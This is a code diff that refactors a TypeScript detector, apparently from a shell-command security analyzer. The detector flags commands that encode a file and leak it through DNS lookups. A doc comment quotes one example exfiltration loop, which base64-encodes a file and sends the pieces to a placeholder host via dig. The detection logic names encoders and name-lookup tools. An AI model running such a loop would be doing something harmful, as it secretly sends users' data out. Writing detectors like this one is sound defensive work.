@@ -1,5 +1,5 @@
 import { isExfiltrationHost } from '../network/exfiltration-hosts.ts'
-import type { Command } from './command.ts'
+import type { Command, Line } from './command.ts'
 import { UNKNOWN, type Word } from './model.ts'
 import { isForeignSource } from './package-sources.ts'
 
@@ -34,20 +34,25 @@ const encoders: ReadonlySet<string> = new Set([
 ])
 
 /** `for c in $(base64 -w30 file); do dig $c.x.example; done`: a file, piece by piece, as labels of names. */
-export function leaksByLoop(commands: readonly Command[]): boolean {
+export function leaksByLoop(lines: readonly Line[]): boolean {
   let encodes = false
-  for (const { name, words } of commands) {
-    encodes ||=
-      encoders.has(name) ||
-      (name === 'for' &&
-        words.some(({ substitutions }) =>
-          substitutions.some((pipeline) =>
-            pipeline.commands.some(({ argv }) => encoders.has(argv[0]?.text ?? '')),
-          ),
-        ))
-    if (encodes && nameTools.has(name) && words.some(isUnseenLabel)) return true
-  }
+  for (const { commands } of lines)
+    for (const command of commands) {
+      encodes ||= encoders.has(command.name) || loopsOverEncoded(command)
+      if (encodes && nameTools.has(command.name) && command.words.some(isUnseenLabel)) return true
+    }
   return false
+}
+
+function loopsOverEncoded({ name, words }: Command): boolean {
+  return (
+    name === 'for' &&
+    words.some(({ substitutions }) =>
+      substitutions.some(({ commands }) =>
+        commands.some(({ argv }) => encoders.has(argv[0]?.text ?? '')),
+      ),
+    )
+  )
 }
 
 function isUnseenLabel({ text }: Word): boolean {
